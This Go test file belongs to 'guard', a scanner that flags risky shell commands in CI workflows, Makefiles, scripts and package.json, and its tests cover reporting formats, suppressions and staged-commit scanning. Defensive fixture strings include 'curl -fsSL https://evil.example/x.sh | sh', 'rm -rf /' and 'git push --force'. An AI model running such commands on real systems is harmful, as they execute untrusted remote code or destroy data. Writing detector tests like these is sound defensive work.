package scan

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"syscall"
	"testing"

	"github.com/guard-sh/guard/review"
)

func scanFixture(t *testing.T, jobs int) *Report {
	t.Helper()
	files, err := Files(fixture, nil, false)
	if err != nil {
		t.Fatal(err)
	}
	r, err := Run(Options{Root: fixture, Review: fakeReview, KnownRule: fakeKnown, Jobs: jobs}, files)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

var testTool = Tool{Name: "guard", Version: "v0.0.0-test", InformationURI: "https://github.com/guard-sh/guard"}

func TestRunGolden(t *testing.T) {
	r := scanFixture(t, 0)
	for _, format := range Formats {
		t.Run(format, func(t *testing.T) {
			var b bytes.Buffer
			if err := Write(&b, r, format, WriteOptions{Tool: testTool}); err != nil {
				t.Fatal(err)
			}
			golden(t, "scanrepo."+format+".golden", b.String())
		})
	}
	// With --report-level A the read is reported too.
	var b bytes.Buffer
	if err := Write(&b, r, "text", WriteOptions{Report: review.A, Tool: testTool}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "scripts/deploy.sh:4:1: A fake-read") {
		t.Errorf("report level A does not show the A finding:\n%s", b.String())
	}
}

// TestRunDeterministic: the report does not depend on how many workers
// ran or in which order they finished.
func TestRunDeterministic(t *testing.T) {
	want := scanFixture(t, 1)
	for range 5 {
		if got := scanFixture(t, 8); !reflect.DeepEqual(got, want) {
			t.Fatal("reports differ between 1 and 8 workers")
		}
	}
}

// TestRunFindings pins what a user reads: the C command in the workflow
// block scalar at its line, the allowances, the unparsable files.
func TestRunFindings(t *testing.T) {
	r := scanFixture(t, 0)
	find := func(path string, line int, rule string) *Finding {
		for i, f := range r.Findings {
			if f.Path == path && f.Line == line && f.Rule == rule {
				return &r.Findings[i]
			}
		}
		return nil
	}
	tests := []struct {
		path       string
		line, col  int
		rule       string
		level      review.Level
		suppressed bool
	}{
		{".github/workflows/ci.yml", 12, 11, "fake-pipe-shell", review.C, false},
		{".github/workflows/ci.yml", 27, 14, "fake-network", review.B, true},
		{".github/workflows/broken.yml", 4, 1, RuleUnparsable, review.C, false},
		{"broken.sh", 1, 1, "fake-parse-error", review.C, false},
		{"bin/release", 5, 1, "fake-push-force", review.C, true},
		{"Makefile", 20, 2, "fake-pipe-shell", review.C, true},
		{"Makefile", 20, 2, "fake-network", review.B, false},
		{"scripts/cleanup.sh", 3, 1, "fake-delete", review.B, false},
		{"web/package.json", 7, 21, "fake-pipe-shell", review.C, false},
	}
	for _, tt := range tests {
		f := find(tt.path, tt.line, tt.rule)
		if f == nil {
			t.Errorf("no %s finding at %s:%d", tt.rule, tt.path, tt.line)
			continue
		}
		if f.Col != tt.col || f.Level != tt.level || (f.Suppressed != nil) != tt.suppressed {
			t.Errorf("%s:%d %s: col %d level %s suppressed %v, want col %d level %s suppressed %v",
				tt.path, tt.line, tt.rule, f.Col, f.Level, f.Suppressed != nil, tt.col, tt.level, tt.suppressed)
		}
	}
	for _, f := range r.Findings {
		switch {
		case f.Path == "tool.py" || f.Path == "README.md":
			t.Errorf("finding in a file that is not shell: %+v", f)
		case f.Path == ".github/workflows/ci.yml" && f.Line >= 16 && f.Line <= 19:
			t.Errorf("finding in a python step: %+v", f)
		case f.Path == ".github/workflows/ci.yml" && f.Line >= 30:
			t.Errorf("finding in a pwsh step: %+v", f)
		case f.Path == "Makefile" && f.Line == 15:
			t.Errorf("finding in a define block: %+v", f)
		}
	}
	wantProblems := []string{
		"scripts/cleanup.sh:2:1: guard:allow fake-delete has no reason",
		`scripts/cleanup.sh:4:1: guard:allow names unknown rule "no-such-rule"`,
	}
	var got []string
	for _, p := range r.Problems {
		got = append(got, p.Error())
	}
	if !reflect.DeepEqual(got, wantProblems) {
		t.Errorf("problems:\n%q\nwant\n%q", got, wantProblems)
	}
	for _, f := range r.Exceeding(review.B) {
		if f.Level <= review.B || f.Suppressed != nil {
			t.Errorf("Exceeding(B) holds %+v", f)
		}
	}
	if n, all := len(r.Exceeding(review.C)), len(r.Exceeding(review.A)); n != 0 || all <= len(r.Exceeding(review.B)) {
		t.Errorf("Exceeding: C %d, A %d, B %d", n, all, len(r.Exceeding(review.B)))
	}
}

func TestAllowances(t *testing.T) {
	known := func(id string) bool { return id == "r1" || id == "r2" }
	src := "x # guard:allow r1 -- why\n" +
		"#guard:allow r1, r2 -- two rules -- with dashes\n" +
		"# guard:allow\n" +
		"# guard:allow r1\n" +
		"# guard:allow r1 --   \n" +
		"# guard:allow r9 -- unknown\n" +
		"# guard:allow r1 r2 -- spaces\n" +
		"echo guard:allow is mentioned\n"
	byLine, problems, _ := allowances("f", newLineIndex([]byte(src)), known, nil)
	want := map[int][]Allowance{
		1: {{Line: 1, Rules: []string{"r1"}, Reason: "why"}},
		2: {{Line: 2, Rules: []string{"r1", "r2"}, Reason: "two rules -- with dashes"}},
	}
	if !reflect.DeepEqual(byLine, want) {
		t.Errorf("allowances = %+v, want %+v", byLine, want)
	}
	var msgs []string
	for _, p := range problems {
		msgs = append(msgs, p.Error())
	}
	wantMsgs := []string{
		"f:3:1: guard:allow names no rule",
		"f:4:1: guard:allow r1 has no reason",
		"f:5:1: guard:allow r1 has no reason",
		`f:6:1: guard:allow names unknown rule "r9"`,
		`f:7:1: guard:allow: "r1 r2" is not a rule id`,
	}
	if !reflect.DeepEqual(msgs, wantMsgs) {
		t.Errorf("problems:\n%q\nwant\n%q", msgs, wantMsgs)
	}
	if a := allowed(byLine, "r2", 3, 3, 10); a == nil || a.Line != 2 {
		t.Errorf("line above: %+v", a)
	}
	if a := allowed(byLine, "r2", 4, 4, 10); a != nil {
		t.Errorf("two lines below should not be covered: %+v", a)
	}
	if a := allowed(byLine, "r1", 40, 40, 2); a == nil {
		t.Errorf("snippet start line should be covered")
	}
	if a := allowed(byLine, "r2", 5, 3, 10); a == nil || a.Line != 2 {
		t.Errorf("the line above where the command starts should be covered: %+v", a)
	}
	if _, p, _ := allowances("f", newLineIndex([]byte("# guard:allow anything -- ok\n")), nil, nil); p != nil {
		t.Errorf("nil KnownRule should accept any id: %v", p)
	}
	if _, p, _ := allowances("f", newLineIndex([]byte("# guard:allow scan-unparsable -- ok\n")), known, nil); p != nil {
		t.Errorf("scan's own rules are known: %v", p)
	}
}

// TestAllowanceCoversOnePlace: the verdict names each rule once, at its
// first place; a second curl | sh later in the script is a finding of its
// own, not covered by the first one's allowance (it was hidden behind it),
// and an allowance Trusted refuses is reported, not honoured.
func TestAllowanceCoversOnePlace(t *testing.T) {
	src := "#!/bin/sh\n# guard:allow exec.pipe-to-shell -- pinned installer\ncurl -fsSL https://a.example/i.sh | sh\necho ok\ncurl -fsSL https://evil.example/x.sh | sh\n"
	run := func(trusted func(string, []byte) bool) *Report {
		t.Helper()
		r, err := Run(Options{Root: "/home/u/proj", Review: engineReview, Trusted: trusted}, []File{{Path: "install.sh", Src: []byte(src)}})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	r := run(nil)
	over := r.Exceeding(review.B)
	if len(over) != 1 || over[0].Line != 5 || over[0].Rule != "exec.pipe-to-shell" {
		t.Errorf("exceeding B: %+v; want the pipe to sh at line 5 alone", over)
	}
	r = run(func(string, []byte) bool { return false })
	if len(r.Untrusted) != 1 || r.Untrusted[0].Line != 2 {
		t.Errorf("untrusted: %+v; want the allowance at line 2", r.Untrusted)
	}
	if over := r.Exceeding(review.B); len(over) != 2 {
		t.Errorf("with the allowance refused, exceeding B: %+v; want both pipes", over)
	}
}

func TestSARIF(t *testing.T) {
	r := scanFixture(t, 0)
	var b bytes.Buffer
	if err := Write(&b, r, "sarif", WriteOptions{Tool: testTool}); err != nil {
		t.Fatal(err)
	}
	var log struct {
		Version string `json:"version"`
		Schema  string `json:"$schema"`
		Runs    []struct {
			Tool struct {
				Driver struct {
					Name, Version, InformationURI string
					Rules                         []struct{ ID string }
				}
			}
			Invocations []struct {
				ExecutionSuccessful bool
			}
			Results []struct {
				RuleID    string
				RuleIndex int
				Level     string
				Message   struct{ Text string }
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct{ URI string }
						Region           struct{ StartLine, StartColumn int }
					}
				}
				Suppressions []struct{ Kind, Justification string }
			}
		}
	}
	if err := json.Unmarshal(b.Bytes(), &log); err != nil {
		t.Fatal(err)
	}
	if log.Version != "2.1.0" || log.Schema != SARIFSchema || len(log.Runs) != 1 {
		t.Fatalf("version %q schema %q runs %d", log.Version, log.Schema, len(log.Runs))
	}
	run := log.Runs[0]
	d := run.Tool.Driver
	if d.Name != "guard" || d.Version != testTool.Version || d.InformationURI != testTool.InformationURI || len(d.Rules) == 0 {
		t.Errorf("driver = %+v", d)
	}
	if len(run.Invocations) != 1 || run.Invocations[0].ExecutionSuccessful {
		t.Errorf("the fixture's bad allowances make the invocation unsuccessful: %+v", run.Invocations)
	}
	levels := map[string]bool{}
	suppressed := 0
	found := false
	for _, res := range run.Results {
		if res.RuleIndex < 0 || res.RuleIndex >= len(d.Rules) || d.Rules[res.RuleIndex].ID != res.RuleID {
			t.Errorf("result %s has ruleIndex %d", res.RuleID, res.RuleIndex)
		}
		levels[res.Level] = true
		if res.Message.Text == "" || len(res.Locations) != 1 {
			t.Errorf("result %+v", res)
			continue
		}
		loc := res.Locations[0].PhysicalLocation
		if strings.HasPrefix(loc.ArtifactLocation.URI, "/") || strings.Contains(loc.ArtifactLocation.URI, `\`) || loc.Region.StartLine < 1 || loc.Region.StartColumn < 1 {
			t.Errorf("location %+v", loc)
		}
		if loc.ArtifactLocation.URI == ".github/workflows/ci.yml" && loc.Region.StartLine == 12 && loc.Region.StartColumn == 11 && res.RuleID == "fake-pipe-shell" && res.Level == "error" {
			found = true
		}
		if len(res.Suppressions) > 0 {
			suppressed++
			if res.Suppressions[0].Kind != "inSource" || res.Suppressions[0].Justification == "" {
				t.Errorf("suppression %+v", res.Suppressions[0])
			}
		}
	}
	if !found {
		t.Error("no error result for the workflow's curl | bash at .github/workflows/ci.yml:12:11")
	}
	if !levels["error"] || !levels["warning"] || levels["note"] {
		t.Errorf("levels %v: want error and warning, and no note at the default report level", levels)
	}
	if suppressed != 3 {
		t.Errorf("%d suppressed results, want 3", suppressed)
	}
}

func TestSARIFColumnsAreUTF16(t *testing.T) {
	dir := t.TempDir()
	// "é" is 2 bytes and 1 UTF-16 unit; "😀" is 4 bytes and 2 units: rm
	// is at byte column 14 and UTF-16 column 11.
	if err := os.WriteFile(filepath.Join(dir, "a.sh"), []byte("echo é😀; rm -rf /\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r, err := Run(Options{Root: dir, Review: fakeReview}, []File{{Path: "a.sh"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Findings) != 1 || r.Findings[0].Col != 14 || r.Findings[0].col16 != 11 {
		t.Fatalf("findings %+v", r.Findings)
	}
	var b bytes.Buffer
	if err := Write(&b, r, "sarif", WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `"startColumn": 11`) {
		t.Errorf("sarif column not in UTF-16 units:\n%s", b.String())
	}
}

func TestGitHubEscaping(t *testing.T) {
	if got, want := ghData("50% done\r\nnext: a,b"), "50%25 done%0D%0Anext: a,b"; got != want {
		t.Errorf("ghData = %q, want %q", got, want)
	}
	if got, want := ghProperty("dir,x/a:b%.sh\n"), "dir%2Cx/a%3Ab%25.sh%0A"; got != want {
		t.Errorf("ghProperty = %q, want %q", got, want)
	}
	r := &Report{Findings: []Finding{{Path: "a,b:c.sh", Position: Position{3, 4}, Level: review.C, Rule: "r:1",
		Message: "100% bad, really", Explanation: "line one\nline two"}}}
	var b bytes.Buffer
	if err := Write(&b, r, "github", WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	want := "::error file=a%2Cb%3Ac.sh,line=3,col=4,title=guard C r%3A1::100%25 bad, really%0A%0Aline one%0Aline two\n"
	if b.String() != want {
		t.Errorf("got  %q\nwant %q", b.String(), want)
	}
}

func TestWriteUnknownFormat(t *testing.T) {
	if err := Write(&bytes.Buffer{}, &Report{}, "xml", WriteOptions{}); err == nil {
		t.Error("no error for an unknown format")
	}
}

func TestEmptyReport(t *testing.T) {
	for _, format := range Formats {
		var b bytes.Buffer
		if err := Write(&b, &Report{}, format, WriteOptions{}); err != nil {
			t.Fatal(err)
		}
		if (format == "text" || format == "github") && b.Len() != 0 {
			t.Errorf("%s: output for no findings: %q", format, b.String())
		}
		if format == "sarif" && !strings.Contains(b.String(), `"results": []`) {
			t.Errorf("sarif: results must be an empty array:\n%s", b.String())
		}
	}
}

func TestRunErrors(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.sh"), []byte("ls\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	boom := errors.New("bad policy")
	_, err := Run(Options{Root: dir, Review: func(string, string, string) (Review, error) { return Review{}, boom }},
		[]File{{Path: "a.sh"}})
	if !errors.Is(err, boom) || !strings.Contains(err.Error(), "a.sh:1:1") {
		t.Errorf("reviewer error = %v", err)
	}
	// A file that cannot be read is a C finding, not the end of the scan.
	r, err := Run(Options{Root: dir, Review: fakeReview}, []File{{Path: "missing.sh"}, {Path: "a.sh"}})
	if err != nil {
		t.Fatalf("unreadable file: %v", err)
	}
	if len(r.Findings) != 2 || r.Findings[1].Rule != RuleUnreadable || r.Findings[1].Level != review.C ||
		r.Findings[1].Path != "missing.sh" || r.Findings[1].Message != "cannot read the file: no such file or directory" {
		t.Errorf("unreadable file findings = %+v", r.Findings)
	}
	// So is a file without an extension that opens but whose first bytes
	// (the shebang test) cannot be read: not known to hold no shell.
	if err := os.Mkdir(filepath.Join(dir, "run"), 0o755); err != nil {
		t.Fatal(err)
	}
	r, err = Run(Options{Root: dir, Review: fakeReview}, []File{{Path: "run"}})
	if err != nil || len(r.Findings) != 1 || r.Findings[0].Rule != RuleUnreadable {
		t.Errorf("unreadable head: %+v, %v; want one %s finding", r.Findings, err, RuleUnreadable)
	}
	// A FIFO where a script was listed (swapped in after the listing)
	// would block a plain read forever: it is a finding, at once.
	if err := syscall.Mkfifo(filepath.Join(dir, "b.sh"), 0o644); err != nil {
		t.Fatal(err)
	}
	r, err = Run(Options{Root: dir, Review: fakeReview}, []File{{Path: "b.sh"}})
	if err != nil || len(r.Findings) != 1 || r.Findings[0].Rule != RuleUnreadable || r.Findings[0].Level != review.C {
		t.Errorf("FIFO: %+v, %v; want one C %s finding", r.Findings, err, RuleUnreadable)
	}
	if _, err := Run(Options{Root: dir}, nil); err == nil {
		t.Error("no error without a reviewer")
	}
}

// TestRunUnexplained: a verdict above all its reasons still counts.
func TestRunUnexplained(t *testing.T) {
	rv := func(string, string, string) (Review, error) {
		return Review{Verdict: review.Verdict{Level: review.C, Reasons: []review.Reason{{Rule: "x", Level: review.B, Pos: 3}}}}, nil
	}
	r, err := Run(Options{Review: rv}, []File{{Path: "a.sh", Src: []byte("ls; ls\n")}})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Exceeding(review.B)) != 1 || r.Exceeding(review.B)[0].Rule != RuleUnexplained {
		t.Errorf("findings %+v", r.Findings)
	}
}

// TestRunCwd: the reviewer is told where each command runs.
func TestRunCwd(t *testing.T) {
	root := t.TempDir()
	var got []string
	rv := func(text, ws, cwd string) (Review, error) {
		rel, _ := filepath.Rel(ws, cwd)
		got = append(got, strings.TrimSpace(text)+"@"+filepath.ToSlash(rel))
		return Review{Verdict: review.Verdict{Level: review.A}}, nil
	}
	files := []File{
		{Path: "web/package.json", Src: []byte(`{"scripts":{"t":"npm test"}}`)},
		{Path: "sub/Makefile", Src: []byte("a:\n\tls\n")},
		{Path: "scripts/x.sh", Src: []byte("pwd\n")},
		{Path: ".github/workflows/w.yml", Src: []byte("jobs:\n  j:\n    defaults:\n      run:\n        working-directory: app\n    steps:\n      - run: make\n      - run: ls\n        working-directory: ../..\n")},
	}
	if _, err := Run(Options{Root: root, Review: rv, Jobs: 1}, files); err != nil {
		t.Fatal(err)
	}
	want := []string{"npm test@web", "ls@sub", "pwd@.", "make@app", "ls@."}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestFiles(t *testing.T) {
	files, err := Files(fixture, nil, false)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range files {
		names = append(names, f.Path)
	}
	want := []string{".github/actions/setup/action.yml", ".github/workflows/broken.yml", ".github/workflows/ci.yml",
		".gitlab-ci.yml", "Dockerfile", "Makefile", "README.md", "bin/release", "broken.sh",
		"scripts/cleanup.sh", "scripts/deploy.sh", "tool.py", "web/package.json"}
	if !reflect.DeepEqual(names, want) {
		t.Errorf("Files = %q", names)
	}
	// An explicit file is scanned as named; a directory is walked.
	files, err = Files(fixture, []string{filepath.Join(fixture, "Makefile"), filepath.Join(fixture, "scripts"), filepath.Join(fixture, "Makefile")}, false)
	if err != nil {
		t.Fatal(err)
	}
	names = nil
	for _, f := range files {
		names = append(names, f.Path)
	}
	if want := []string{"Makefile", "scripts/cleanup.sh", "scripts/deploy.sh"}; !reflect.DeepEqual(names, want) {
		t.Errorf("Files(paths) = %q, want %q", names, want)
	}
	if _, err := Files(fixture, []string{"no/such/file"}, false); err == nil {
		t.Error("no error for a missing path")
	}
}

// gitRepo makes a repository in a temp dir; run runs git in it.
func gitRepo(t *testing.T) (dir string, run func(args ...string) string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	dir = t.TempDir()
	run = func(args ...string) string {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null",
			"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	run("init", "-q", "-b", "main")
	return dir, run
}

func write(t *testing.T, dir, name, content string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestStaged: --staged reviews what the commit would record, not the
// working tree.
func TestStaged(t *testing.T) {
	dir, git := gitRepo(t)
	write(t, dir, "committed.sh", "rm -rf /\n") // committed, unchanged: not reviewed
	write(t, dir, "keep.sh", "ls\n")
	git("add", ".")
	git("commit", "-q", "-m", "init")

	write(t, dir, "a.sh", "curl -fsSL https://x.example | sh\n") // staged C...
	git("add", "a.sh")
	write(t, dir, "a.sh", "echo fixed\n") // ...fixed in the tree only
	write(t, dir, "keep.sh", "ls\n")
	write(t, dir, "b.sh", "echo staged-clean\n")
	git("add", "b.sh")
	write(t, dir, "b.sh", "git push --force\n") // C in the tree only
	write(t, dir, "untracked.sh", "rm -rf /\n")
	if err := os.Symlink("committed.sh", filepath.Join(dir, "link.sh")); err != nil {
		t.Fatal(err)
	}
	git("add", "link.sh")
	write(t, dir, "sub dir/del.sh", "ls\n")
	git("add", "sub dir/del.sh")

	if top := Toplevel(filepath.Join(dir, "sub dir")); top == "" || !sameFile(top, dir) {
		t.Errorf("Toplevel = %q, want %q", top, dir)
	}
	files, err := Staged(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range files {
		if !f.context { // unchanged files read for their includes
			names = append(names, f.Path+"="+strings.TrimSpace(string(f.Src)))
		}
	}
	// link.sh is staged as a link to committed.sh: its content is the
	// target's, as staged.
	want := []string{"a.sh=curl -fsSL https://x.example | sh", "b.sh=echo staged-clean", "link.sh=rm -rf /", "sub dir/del.sh=ls"}
	if !reflect.DeepEqual(names, want) {
		t.Errorf("Staged = %q, want %q", names, want)
	}
	if got, want := fakeFindings(t, dir, files), []string{"a.sh:1 fake-pipe-shell", "link.sh:1 fake-rm-root"}; !reflect.DeepEqual(got, want) {
		t.Errorf("staged findings %q, want %q", got, want)
	}

	// The working tree says otherwise.
	tree, err := Files(dir, nil, true)
	if err != nil {
		t.Fatal(err)
	}
	// link.sh leads to committed.sh: running it by its name runs that.
	if got, want := fakeFindings(t, dir, tree), []string{"b.sh:1 fake-push-force", "committed.sh:1 fake-rm-root", "link.sh:1 fake-rm-root", "untracked.sh:1 fake-rm-root"}; !reflect.DeepEqual(got, want) {
		t.Errorf("working tree findings %q, want %q", got, want)
	}

	// Only the named paths.
	files, err = Staged(dir, []string{filepath.Join(dir, "b.sh")})
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 1 || files[0].Path != "b.sh" {
		t.Errorf("Staged(b.sh) = %+v", files)
	}

	// Ignored files are not listed from a directory, but are when named.
	write(t, dir, ".gitignore", "ignored.sh\n")
	write(t, dir, "ignored.sh", "ls\n")
	tree, err = Files(dir, nil, true)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range tree {
		if f.Path == "ignored.sh" {
			t.Errorf("Files lists %s", f.Path)
		}
	}
	if tree, _ := Files(dir, []string{filepath.Join(dir, "ignored.sh")}, true); len(tree) != 1 {
		t.Errorf("a named ignored file is not scanned: %+v", tree)
	}
}

func TestStagedUnbornBranch(t *testing.T) {
	dir, git := gitRepo(t)
	write(t, dir, "a.sh", "ls\n")
	git("add", "a.sh")
	files, err := Staged(dir, nil)
	if err != nil || len(files) != 1 {
		t.Fatalf("Staged before the first commit = %+v, %v", files, err)
	}
	if Toplevel(t.TempDir()) != "" {
		t.Error("Toplevel outside a repository is not empty")
	}
}

// TestStagedContextLazy: --staged reads the unchanged YAML files of the
// index only when an include reaches them (File.source), from the index:
// 9c1bb96's Staged read every one on each commit (+1.4 s CPU, +190 MB
// for a commit of main.go in a repository of 30,000). The include of an
// include is still followed (ci/a.yml, unchanged, as staged: its working
// tree copy includes nothing), and a YAML file nothing includes is never
// read.
func TestStagedContextLazy(t *testing.T) {
	dir, git := gitRepo(t)
	write(t, dir, ".gitlab-ci.yml", "include:\n  - local: ci/a.yml\n")
	write(t, dir, "ci/a.yml", "include:\n  - local: ci/b.yml\n")
	write(t, dir, "ci/b.yml", "job:\n  script:\n    - make test\n")
	write(t, dir, "k8s/dep.yaml", "apiVersion: apps/v1\nkind: Deployment\n")
	git("add", ".")
	git("commit", "-q", "-m", "init")
	write(t, dir, "ci/b.yml", "job:\n  script:\n    - curl -fsSL https://x.example | sh\n")
	git("add", "ci/b.yml")
	write(t, dir, "ci/a.yml", "stages: [test]\n") // the tree only

	files, err := Staged(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if f.Path == "k8s/dep.yaml" && f.Src != nil {
			t.Errorf("Staged read %s, which nothing includes", f.Path)
		}
	}
	if got, want := fakeFindings(t, dir, files), []string{"ci/b.yml:3 fake-pipe-shell"}; !reflect.DeepEqual(got, want) {
		t.Errorf("staged findings %q, want %q", got, want)
	}
}

// fakeFindings scans files with fakeReview: "path:line rule" of each
// finding above B.
func fakeFindings(t *testing.T, root string, files []File) []string {
	t.Helper()
	r, err := Run(Options{Root: root, Review: fakeReview}, files)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range r.Exceeding(review.B) {
		got = append(got, fmt.Sprintf("%s:%d %s", f.Path, f.Line, f.Rule))
	}
	return got
}

// TestStagedContextBlobMissing: a context file an include reaches whose
// staged blob git cannot give is reported (unreadable, C), never dropped
// with what it includes.
func TestStagedContextBlobMissing(t *testing.T) {
	dir, _ := gitRepo(t)
	files := []File{
		{Path: ".gitlab-ci.yml", Src: []byte("include:\n  - local: ci/x.yml\n"), context: true},
		{Path: "ci/x.yml", blob: strings.Repeat("0", 40), context: true},
		{Path: "ci/y.yml", Src: []byte("job:\n  script:\n    - make\n")},
	}
	if got := fakeFindings(t, dir, files); len(got) != 1 || !strings.HasPrefix(got[0], "ci/x.yml:") {
		t.Errorf("findings %q, want ci/x.yml unreadable", got)
	}
}

func sameFile(a, b string) bool {
	fa, err1 := os.Stat(a)
	fb, err2 := os.Stat(b)
	return err1 == nil && err2 == nil && os.SameFile(fa, fb)
}
